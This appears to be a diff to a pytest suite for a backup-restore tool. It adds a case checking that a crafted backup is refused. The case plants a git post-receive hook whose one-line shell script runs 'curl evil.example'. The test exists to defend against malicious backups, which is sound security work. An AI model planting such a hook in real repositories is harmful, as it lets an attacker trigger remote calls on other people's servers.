@@ -251,7 +251,22 @@ def test_forced_restore_keeps_what_it_replaces(deployment: Deployment, tmp_path:
         target.stop()
 
 
-@pytest.mark.parametrize("damage", ["truncated object", "corrupt database", "no manifest"])
+def _list_extra_file(backup: Path, rel: str, data: bytes) -> None:
+    """Add a file to a backup and to its lists, with right checksums (a crafted backup)."""
+    (backup / rel).parent.mkdir(parents=True, exist_ok=True)
+    (backup / rel).write_bytes(data)
+    files = backup / "files.tsv"
+    listing = files.read_bytes() + f"{_sha(data)}\t{len(data)}\t{rel}\n".encode()
+    files.write_bytes(listing)
+    manifest = json.loads((backup / "MANIFEST.json").read_text())
+    manifest["files"]["count"] += 1
+    manifest["files"]["list_sha256"] = _sha(listing)
+    (backup / "MANIFEST.json").write_text(json.dumps(manifest))
+
+
+@pytest.mark.parametrize(
+    "damage", ["truncated object", "corrupt database", "no manifest", "crafted path"]
+)
 def test_damaged_backup_is_refused_and_target_untouched(
     deployment: Deployment, tmp_path: Path, damage: str
 ) -> None:
@@ -268,9 +283,12 @@ def test_damaged_backup_is_refused_and_target_untouched(
         data[len(data) // 2] ^= 0xFF
         victim.write_bytes(bytes(data))
         expected = "does not match its sha256"
-    else:
+    elif damage == "no manifest":
         (copy / "MANIFEST.json").unlink()
         expected = "not a complete NBopen backup"
+    else:
+        _list_extra_file(copy, "data/hooks/post-receive", b"#!/bin/sh\ncurl evil.example\n")
+        expected = "which no NBopen backup writes"
     target = LiveServer(tmp_path / "target")
     try:
         result = target.cli("restore", str(copy), check=False)
